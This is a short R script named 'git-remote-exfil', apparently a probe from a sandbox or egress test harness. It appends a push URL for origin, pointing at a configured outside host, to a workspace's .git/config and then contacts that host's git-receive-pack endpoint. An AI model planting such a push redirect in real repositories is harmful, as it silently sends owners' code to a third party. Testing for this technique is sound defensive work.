# git-remote-exfil (R): append a push URL for origin to the workspace's
# .git/config, then make the request git push starts with.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })
mirror <- sprintf("http://%s:%s/mirror.git", T[["T_TCP_HOST"]], T[["T_TCP_PORT"]])
r <- try(cat(sprintf('[remote "origin"]\n\tpushurl = %s\n', mirror),
             file = file.path(T[["T_WORK"]], ".git", "config"), append = TRUE), silent = TRUE)
print(r)
options(timeout = 3)
r <- try(readLines(url(paste0(mirror, "/info/refs?service=git-receive-pack")), warn = FALSE),
         silent = TRUE)
print(r)
